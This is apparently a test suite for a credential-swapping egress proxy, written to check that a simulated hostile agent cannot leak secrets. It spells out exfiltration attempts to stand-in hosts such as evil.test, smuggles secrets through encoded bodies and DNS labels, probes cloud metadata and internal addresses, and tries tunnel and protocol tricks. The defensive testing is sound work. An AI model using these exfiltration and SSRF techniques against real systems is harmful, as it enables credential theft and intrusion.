// Leak tests, outbound (THREATS 1–8, 17–20): a hostile agent tries to get a real value to a
// host it does not belong to, to use a key of its own on a `require` host, to smuggle a real
// value out in any encoding, to reach internal addresses or the proxy itself, and to slip
// past the HTTP layer (CONNECT in a tunnel, TRACE, h2c, WebSocket). Each test asserts both
// the answer the agent got and what the (recording) upstream actually received.

import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { HostileAgent } from "../support/hostile-agent.ts";
import { carries, findLeaks, plantings, SECRETS } from "../support/hostile-oracle.ts";
import {
  type HostileUpstream,
  sendLength,
  startHostileUpstream,
} from "../support/hostile-upstream.ts";
import { type Harness, startHarness } from "../support/proxy-harness.ts";
import { openTunnel } from "../support/raw-agent.ts";

let h: Harness;
let up: HostileUpstream;
let plain: HostileUpstream;
let agent: HostileAgent;
let port: number;

const { alpha, beta, gamma } = SECRETS;
const pctAll = (s: string) =>
  Array.from(s, (c) => `%${c.charCodeAt(0).toString(16).toUpperCase().padStart(2, "0")}`).join("");
const b64 = (s: string) => Buffer.from(s, "latin1").toString("base64");

beforeAll(async () => {
  h = await startHarness({
    credentials: [
      // alpha is presented everywhere a dummy can hide, so each hiding place is tried.
      {
        ...alpha,
        hosts: ["bound.test:*", "xn--bcher-kva.test:*"],
        in: ["header:authorization", "header:x-k", "query:k", "body"],
      },
      { ...beta, hosts: ["bound.test:*"], inUrl: "deny" },
      { ...gamma, hosts: ["req.test:*"], require: true, in: ["header:authorization", "body"] },
    ],
    allow: [
      "bound.test:*",
      "evil.test:*",
      "req.test:*",
      "xn--bcher-kva.test:*",
      "localhost:*",
      "127.0.0.1:*",
      "meta.test:*",
      "meta6.test:*",
      "ten.test:*",
      "zero.test:*",
      "ecs.test:*",
      "eks.test:*",
      "eks6.test:*",
      "gcp6.test:*",
      "wire.test:*",
      "*.wild.test:*",
    ],
    names: ["bound.test", "evil.test", "req.test", "xn--bcher-kva.test"],
    addresses: {
      "meta.test": "169.254.169.254",
      "meta6.test": "fd00:ec2::254",
      "ten.test": "10.255.255.1",
      "zero.test": "0.0.0.0",
      "ecs.test": "169.254.170.2",
      "eks.test": "169.254.170.23",
      "eks6.test": "fd00:ec2::23",
      "gcp6.test": "fd20:ce::254",
      "wire.test": "168.63.129.16",
    },
    env: { SLAPENIR_RATE_LIMIT: "off", SLAPENIR_UPSTREAM_CONNECT_TIMEOUT_MS: "1000" },
  });
  up = await startHostileUpstream(
    await h.upstreamCa.issue([
      "bound.test",
      "evil.test",
      "req.test",
      "xn--bcher-kva.test",
      "localhost",
      "127.0.0.1",
    ]),
  );
  plain = await startHostileUpstream(null);
  for (const u of [up, plain]) {
    u.on("/", (_r, w) => sendLength(w, [["content-type", "text/plain"]], Buffer.from("ok\n")));
  }
  agent = new HostileAgent(h);
  port = up.port;
});

afterAll(async () => {
  await up?.stop();
  await plain?.stop();
  await h?.close();
});

/** One raw request through a fresh tunnel; returns the answer and what the upstream got. */
async function through(connect: string, raw: string | string[], gapMs = 0) {
  const before = up.received.length;
  const beforeBytes = up.allBytes().length;
  const s = await agent.tunnel(connect);
  const answer = await agent.send(s, raw, { gapMs });
  await Bun.sleep(5);
  return {
    answer,
    got: up.received.slice(before),
    /** Every byte the upstream saw for this request, complete or not. */
    bytes: up.allBytes().subarray(beforeBytes),
  };
}

const req = (host: string, target: string, headers: string[] = [], body?: string) =>
  `POST ${target} HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n${headers.map((x) => `${x}\r\n`).join("")}` +
  (body === undefined
    ? "Content-Length: 0\r\n\r\n"
    : `Content-Length: ${Buffer.byteLength(body, "latin1")}\r\n\r\n${body}`);

describe("a dummy sent to a host it is not bound to arrives as the dummy", () => {
  const tricks: [string, string[], string | undefined, string][] = [
    ["Bearer header", [`Authorization: Bearer ${alpha.dummy}`], undefined, "/"],
    ["query", [], undefined, `/?k=${alpha.dummy}`],
    ["Basic auth", [`Authorization: Basic ${b64(`u:${alpha.dummy}`)}`], undefined, "/"],
    ["percent-encoded body", [], encodeURIComponent(alpha.dummy).replaceAll("-", "%2D"), "/"],
    [
      "JSON \\u body",
      [],
      `{"k":"${Array.from(alpha.dummy, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, "0")}`).join("")}"}`,
      "/",
    ],
    ["form body", [], `k=${alpha.dummy}&x=1`, "/"],
    ["custom header", [`X-Key: ${beta.dummy}`], undefined, "/"],
  ];
  for (const [name, headers, body, target] of tricks) {
    test(name, async () => {
      const r = await through(`evil.test:${port}`, req(`evil.test:${port}`, target, headers, body));
      expect(r.answer.status).toBe(200);
      expect(r.got.length).toBe(1);
      expect(findLeaks(r.bytes)).toEqual([]);
    });
  }
});

describe("a hidden dummy is swapped on its bound host", () => {
  const A = alpha.real;
  const u = (s: string) =>
    Array.from(s, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, "0")}`).join("");
  const cases: [string, string[], string | undefined, string, (got: Buffer) => boolean][] = [
    [
      "Basic auth",
      [`Authorization: Basic ${b64(`u:${alpha.dummy}`)}`],
      undefined,
      "/",
      (g) => g.includes(b64(`u:${A}`)),
    ],
    [
      "percent-encoded query (every byte)",
      [],
      undefined,
      `/?k=${pctAll(alpha.dummy)}`,
      // Swapped as presented, the real value goes out percent-encoded the standard way.
      (g) => g.includes(`k=${encodeURIComponent(A)}`),
    ],
    ["JSON \\u body", [], `{"k":"${u(alpha.dummy)}"}`, "/", (g) => g.includes(u(A))],
    ["form body", [], `k=${alpha.dummy}&x=1`, "/", (g) => g.includes(`k=${A}&x=1`)],
  ];
  for (const [name, headers, body, target, check] of cases) {
    test(name, async () => {
      const r = await through(
        `bound.test:${port}`,
        req(`bound.test:${port}`, target, headers, body),
      );
      expect(r.answer.status).toBe(200);
      expect(r.got.length).toBe(1);
      expect(check(r.got[0]!.raw)).toBe(true);
      expect(r.got[0]!.raw.includes(alpha.dummy)).toBe(false);
    });
  }

  test("a dummy split across writes (head and body) is swapped", async () => {
    const body = `{"k":"${alpha.dummy}"}`;
    const whole = req(`bound.test:${port}`, "/", [`X-K: ${alpha.dummy}`], body);
    const cut1 = whole.indexOf(alpha.dummy) + 7;
    const cut2 = whole.lastIndexOf(alpha.dummy) + 11;
    const r = await through(
      `bound.test:${port}`,
      [whole.slice(0, cut1), whole.slice(cut1, cut2), whole.slice(cut2)],
      30,
    );
    expect(r.got.length).toBe(1);
    const raw = r.got[0]!.raw.toString("latin1");
    expect(raw).toContain(`x-k: ${alpha.real}`.slice(5));
    expect(r.got[0]!.body.toString("latin1")).toBe(`{"k":"${alpha.real}"}`);
  });

  test("the same split on an unbound host leaves the dummy alone", async () => {
    const whole = req(`evil.test:${port}`, "/", [], `{"k":"${alpha.dummy}"}`);
    const cut = whole.indexOf(alpha.dummy) + 9;
    const r = await through(`evil.test:${port}`, [whole.slice(0, cut), whole.slice(cut)], 30);
    expect(r.got[0]!.body.toString("latin1")).toBe(`{"k":"${alpha.dummy}"}`);
    expect(findLeaks(r.bytes)).toEqual([]);
  });
});

describe("CONNECT, SNI and Host must agree", () => {
  test("SNI names the bound host inside a tunnel to another: handshake refused, nothing dialled", async () => {
    const conns = up.connections;
    await expect(agent.tunnel(`evil.test:${port}`, "bound.test")).rejects.toThrow();
    expect(up.connections).toBe(conns);
  });

  test("the proxy refuses that handshake itself, even for a client that does not check the leaf", async () => {
    // The runtime runs no SNI callback inside a tunnel: the proxy reads the ClientHello.
    await h.settled();
    const from = h.auditLines.length;
    const attempt = openTunnel(
      { port: h.port, caBundlePath: h.caBundlePath, agent: h.agents["agent-a"]! },
      { connect: `evil.test:${port}`, sni: "bound.test", verify: false },
    );
    await expect(attempt).rejects.toThrow();
    // Refused at the handshake, and said so (the digest writes the first of a kind at once).
    await h.auditWhere((l) => l.reason === "SNI does not match the CONNECT target");
    await h.settled();
    expect(h.auditLines.length).toBeGreaterThan(from);
  });

  test("Host names the bound host inside a tunnel to another: 421, nothing dialled", async () => {
    const conns = up.connections;
    const r = await through(
      `evil.test:${port}`,
      req(`bound.test:${port}`, "/", [`Authorization: Bearer ${alpha.dummy}`]),
    );
    expect(r.answer.status).toBe(421);
    expect(r.got.length).toBe(0);
    expect(up.connections).toBe(conns);
  });

  test("absolute-form target naming another host inside a tunnel: 421", async () => {
    const r = await through(
      `evil.test:${port}`,
      `GET https://bound.test:${port}/?k=${alpha.dummy} HTTP/1.1\r\nHost: evil.test:${port}\r\nConnection: close\r\n\r\n`,
    );
    expect(r.answer.status).toBe(421);
    expect(r.got.length).toBe(0);
  });

  test("Host with a different port: 421", async () => {
    const r = await through(
      `bound.test:${port}`,
      req("bound.test:443", "/", [`Authorization: Bearer ${alpha.dummy}`]),
    );
    expect(r.answer.status).toBe(421);
    expect(r.got.length).toBe(0);
  });
});

describe("host spellings match on the canonical form", () => {
  const spellings: [string, string, boolean][] = [
    ["upper case", "BOUND.Test", true],
    ["trailing dot", "bound.test.", true],
    ["punycode (IDN host bound by its xn-- form)", "XN--BCHER-KVA.test", true],
    ["numeric IPv4 (decimal) is 127.0.0.1, not bound", "2130706433", false],
    ["short IPv4 (127.1) is 127.0.0.1, not bound", "127.1", false],
    ["IPv4-mapped IPv6 is 127.0.0.1, not bound", "[::ffff:127.0.0.1]", false],
  ];
  for (const [name, host, swapped] of spellings) {
    test(name, async () => {
      const authority = `${host}:${port}`;
      const numeric = /^[\d.x]+$|:/.test(host);
      const s = await agent.tunnel(authority, numeric ? "" : host.toLowerCase().replace(/\.$/, ""));
      const before = up.received.length;
      const a = await agent.send(s, req(authority, "/", [`Authorization: Bearer ${alpha.dummy}`]));
      expect(a.status).toBe(200);
      const got = up.received[before]!;
      expect(got.raw.includes(alpha.real)).toBe(swapped);
      expect(got.raw.includes(alpha.dummy)).toBe(!swapped);
    });
  }
});

describe("require: a bound host only receives requests that carried the dummy", () => {
  test("no dummy, no body: 403, nothing reaches the upstream", async () => {
    const r = await through(
      `req.test:${port}`,
      req(`req.test:${port}`, "/", ["Authorization: Bearer attacker-own-key-123456"]),
    );
    expect(r.answer.status).toBe(403);
    expect(r.got.length).toBe(0);
  });

  test("no dummy anywhere, with a body: the upstream never gets a complete request", async () => {
    const r = await through(
      `req.test:${port}`,
      req(
        `req.test:${port}`,
        "/",
        ["Authorization: Bearer attacker-own-key-123456"],
        "x".repeat(5000),
      ),
    );
    expect(r.got.length).toBe(0);
    expect(r.answer.status === 403 || !r.answer.complete).toBe(true);
  });

  test("dummy in the body only: swapped and delivered", async () => {
    const r = await through(
      `req.test:${port}`,
      req(`req.test:${port}`, "/", [], `{"token":"${gamma.dummy}"}`),
    );
    expect(r.answer.status).toBe(200);
    expect(r.got[0]!.body.toString()).toBe(`{"token":"${gamma.real}"}`);
  });

  test("dummy in a header: delivered", async () => {
    const r = await through(
      `req.test:${port}`,
      req(`req.test:${port}`, "/", [`Authorization: Bearer ${gamma.dummy}`]),
    );
    expect(r.answer.status).toBe(200);
    expect(r.got.length).toBe(1);
  });
});

describe("outbound DLP: a real value in any encoding, anywhere, to any host", () => {
  for (const host of ["bound.test", "evil.test"]) {
    const where: [string, (enc: string) => string][] = [
      ["query", (e) => req(`${host}:${port}`, `/?q=${encodeURIComponent(e)}`)],
      ["path", (e) => req(`${host}:${port}`, `/${encodeURIComponent(e)}/x`)],
      ["header value", (e) => req(`${host}:${port}`, "/", [`X-Data: ${e}`])],
      [
        "Basic auth",
        (e) => req(`${host}:${port}`, "/", [`Authorization: Basic ${b64(`user:${e}`)}`]),
      ],
      [
        // beta's base64 has `+` inside it: percent-encoding breaks the raw base64 pattern.
        "percent-encoded base64 in a cookie",
        () => req(`${host}:${port}`, "/", [`Cookie: t=${encodeURIComponent(b64(beta.real))}`]),
      ],
      [
        "percent-encoded JSON in the query",
        (e) => req(`${host}:${port}`, `/?j=${encodeURIComponent(JSON.stringify({ k: `"${e}"` }))}`),
      ],
    ];
    for (const [place, build] of where) {
      test(`${host}: real in the ${place} → 403, upstream untouched, audited`, async () => {
        const r = await through(`${host}:${port}`, build(alpha.real));
        expect(r.answer.status).toBe(403);
        expect(r.got.length).toBe(0);
        expect(findLeaks(r.bytes)).toEqual([]);
        // The request's line (a violation line may follow it).
        await h.settled();
        const line = h.auditLines.findLast((l) => l.includes('"evt":"request"'));
        expect(line).toContain('"reason":"real credential in request"');
      });
    }
    test(`${host}: real value as a header name → 403`, async () => {
      const r = await through(`${host}:${port}`, req(`${host}:${port}`, "/", [`${alpha.real}: 1`]));
      expect(r.answer.status).toBe(403);
      expect(r.got.length).toBe(0);
    });
    for (const p of plantings(Buffer.from(beta.real, "latin1"))) {
      test(`${host}: real in the body as ${p.encoding} → blocked, upstream never gets it`, async () => {
        const body = `lead-in ${".".repeat(100)} ${p.text.toString("latin1")} tail`;
        const r = await through(`${host}:${port}`, req(`${host}:${port}`, "/", [], body));
        expect(r.got.length).toBe(0);
        expect(r.answer.status === 403 || !r.answer.complete).toBe(true);
        expect(findLeaks(r.bytes)).toEqual([]);
      });
    }
  }

  test("a real value used as a DNS label: 403, never resolved", async () => {
    const name = `${alpha.real.toLowerCase()}.evil.test`;
    const r = await through(`evil.test:${port}`, req(`evil.test:${port}`, "/"));
    expect(r.answer.status).toBe(200);
    const s = await agent.outer();
    const a = await agent.send(s, `GET http://${name}/ HTTP/1.1\r\nHost: ${name}\r\n\r\n`);
    expect(a.status).toBe(403);
    expect(h.lookups).not.toContain(name);
  });

  test("a real value as a label under an allowed wildcard, in any case: refused, never resolved nor logged", async () => {
    // DNS and the proxy's own canonical host fold case: only one bit per letter would be lost.
    const mixed = `${alpha.real}.wild.test`;
    const folded = mixed.toLowerCase();
    await h.settled();
    const auditFrom = h.auditLines.length;
    await expect(agent.tunnel(`${mixed}:${port}`)).rejects.toThrow(
      "CONNECT refused: HTTP/1.1 403 Forbidden",
    );
    const s = await agent.outer();
    const a = await agent.send(s, `GET http://${folded}/ HTTP/1.1\r\nHost: ${folded}\r\n\r\n`);
    expect(a.status).toBe(403);
    expect(h.lookups.some((l) => l.toLowerCase().includes(alpha.real.toLowerCase()))).toBe(false);
    await h.settled();
    const logged = h.auditLines.slice(auditFrom).join("\n").toLowerCase();
    expect(logged).toContain('"decision":"deny"');
    expect(logged).not.toContain(alpha.real.toLowerCase());
  });

  test("a denied host that carries a real value is logged scrubbed, reason included", async () => {
    const name = `${alpha.real}.elsewhere.test`;
    await h.settled();
    const auditFrom = h.auditLines.length;
    const s = await agent.outer();
    const a = await agent.send(s, `GET http://${name}/ HTTP/1.1\r\nHost: ${name}\r\n\r\n`);
    expect(a.status).toBe(403);
    await h.settled();
    const lines = h.auditLines.slice(auditFrom);
    expect(lines.join("\n").toLowerCase()).not.toContain(alpha.real.toLowerCase());
    expect(findLeaks(Buffer.from(lines.join("\n")))).toEqual([]);
  });
});

describe("URL policy and plain http", () => {
  test("inUrl: deny — a dummy in the query is refused (403)", async () => {
    const r = await through(`bound.test:${port}`, req(`bound.test:${port}`, `/?k=${beta.dummy}`));
    expect(r.answer.status).toBe(403);
    expect(r.got.length).toBe(0);
  });

  test("plain http:// to a bound host: the dummy is never swapped in", async () => {
    const s = await agent.outer();
    const before = plain.received.length;
    const a = await agent.send(
      s,
      `GET http://bound.test:${plain.port}/?k=${alpha.dummy} HTTP/1.1\r\nHost: bound.test:${plain.port}\r\nAuthorization: Bearer ${alpha.dummy}\r\nConnection: close\r\n\r\n`,
    );
    expect(a.status).toBe(200);
    const got = plain.received[before]!;
    expect(got.raw.includes(alpha.dummy)).toBe(true);
    expect(findLeaks(plain.allBytes())).toEqual([]);
  });
});

describe("destinations", () => {
  const denied: [string, string][] = [
    ["metadata by name", "meta.test:443"],
    ["metadata IPv6 by name", "meta6.test:443"],
    ["unspecified 0.0.0.0 by name", "zero.test:443"],
    ["AWS ECS task credentials by name", "ecs.test:443"],
    ["AWS EKS Pod Identity by name", "eks.test:443"],
    ["AWS EKS Pod Identity IPv6 by name", "eks6.test:443"],
    ["GCP metadata IPv6 by name", "gcp6.test:443"],
    ["Azure WireServer by name", "wire.test:443"],
  ];
  for (const [name, target] of denied) {
    test(`${name}: 403 even with SLAPENIR_ALLOW_PRIVATE=true, never dialled`, async () => {
      const r = await through(target, req(target, "/"));
      expect(r.answer.status).toBe(403);
      expect(r.answer.body.toString()).toContain("not allowed");
    });
  }

  test("a denied host is not even resolved (CONNECT and absolute-form)", async () => {
    await expect(agent.tunnel("exfil-a1b2c3.denied.test:443")).rejects.toThrow(/403/);
    const s = await agent.outer();
    const a = await agent.send(
      s,
      "GET http://exfil-d4e5f6.denied.test/ HTTP/1.1\r\nHost: exfil-d4e5f6.denied.test\r\n\r\n",
    );
    expect(a.status).toBe(403);
    expect(h.lookups.filter((n) => n.includes("denied.test"))).toEqual([]);
  });

  test("the proxy's own listener is not reachable through it", async () => {
    const r = await through(`localhost:${h.port}`, req(`localhost:${h.port}`, "/"));
    expect(r.answer.status).toBe(403);
    expect(r.answer.body.toString()).toContain("proxy itself");
  });

  test("the admin port (metrics) is not reachable through it, whatever the spelling", async () => {
    const admin = h.proxy.adminPort;
    for (const host of ["localhost", "127.0.0.1", "2130706433", "[::ffff:127.0.0.1]", "127.1"]) {
      const s = await agent.outer();
      const a = await agent.send(
        s,
        `GET http://${host}:${admin}/metrics HTTP/1.1\r\nHost: ${host}:${admin}\r\n\r\n`,
      );
      expect({ host, status: a.status }).toEqual({ host, status: 403 });
      expect(a.body.toString()).not.toContain("slapenir_requests_total");
    }
  });
});

describe("protocol tricks", () => {
  test("CONNECT inside a tunnel is refused", async () => {
    const r = await through(
      `bound.test:${port}`,
      `CONNECT evil.test:${port} HTTP/1.1\r\nHost: evil.test:${port}\r\n\r\n`,
    );
    expect(r.answer.status).toBe(400);
    expect(r.got.length).toBe(0);
  });

  test("TRACE is refused (it would echo credentials back)", async () => {
    const r = await through(
      `bound.test:${port}`,
      `TRACE / HTTP/1.1\r\nHost: bound.test:${port}\r\nAuthorization: Bearer ${alpha.dummy}\r\n\r\n`,
    );
    expect(r.answer.status).toBe(400);
    expect(r.got.length).toBe(0);
  });

  test("Upgrade: h2c is refused", async () => {
    const r = await through(
      `bound.test:${port}`,
      `GET / HTTP/1.1\r\nHost: bound.test:${port}\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA\r\n\r\n`,
    );
    expect(r.answer.status).toBe(501);
    expect(r.got.length).toBe(0);
  });

  test("a WebSocket handshake to an upstream that does not switch: its answer, the proxy's own extension offer, the connection closed", async () => {
    const r = await through(
      `bound.test:${port}`,
      `GET /ws HTTP/1.1\r\nHost: bound.test:${port}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Extensions: permessage-deflate\r\n\r\n`,
    );
    expect(r.answer.status).toBe(200);
    expect(r.got.length).toBe(1);
    const fields = new Map(r.got[0]!.headers);
    expect(fields.get("upgrade")).toBe("websocket");
    expect(fields.get("sec-websocket-extensions")).toBe(
      "permessage-deflate; client_no_context_takeover",
    );
  });

  test("curl --http2 through the proxy still speaks HTTP/1.1 (ALPN offers http/1.1 only)", async () => {
    const r = await h.curl([
      "--http2",
      "-H",
      `Authorization: Bearer ${alpha.dummy}`,
      `https://bound.test:${port}/`,
    ]);
    expect(r.code).toBe(0);
    expect(r.headers.startsWith("HTTP/1.1 200")).toBe(true);
  });

  test("no audit line carries a real value or its encodings", async () => {
    await h.settled();
    expect(findLeaks(h.auditLines.join("\n"))).toEqual([]);
    expect(carries(h.auditLines.join("\n"), alpha.real)).toBe(false);
  });
});

describe("destinations with SLAPENIR_ALLOW_PRIVATE=false (the default)", () => {
  let strict: Harness;
  let strictAgent: HostileAgent;
  beforeAll(async () => {
    strict = await startHarness({
      allow: ["ten.test:*", "meta.test:*", "localhost:*", "127.0.0.1:*", "[::1]:*", "0.0.0.0:*"],
      addresses: { "ten.test": "10.255.255.1", "meta.test": "169.254.169.254" },
      env: { SLAPENIR_ALLOW_PRIVATE: "false", SLAPENIR_RATE_LIMIT: "off" },
    });
    strictAgent = new HostileAgent(strict);
  });
  afterAll(async () => {
    await strict?.close();
  });
  for (const host of [
    "ten.test",
    "meta.test",
    "localhost",
    "127.0.0.1",
    "2130706433",
    "[::1]",
    "[::ffff:7f00:1]",
    "0.0.0.0",
  ]) {
    test(`${host}: 403 on the resolved address, never dialled`, async () => {
      const s = await strictAgent.outer();
      const a = await strictAgent.send(
        s,
        `GET http://${host}:9/ HTTP/1.1\r\nHost: ${host}:9\r\n\r\n`,
      );
      expect(a.status).toBe(403);
      expect(a.body.toString()).toContain("destination address is not allowed");
    });
  }
});
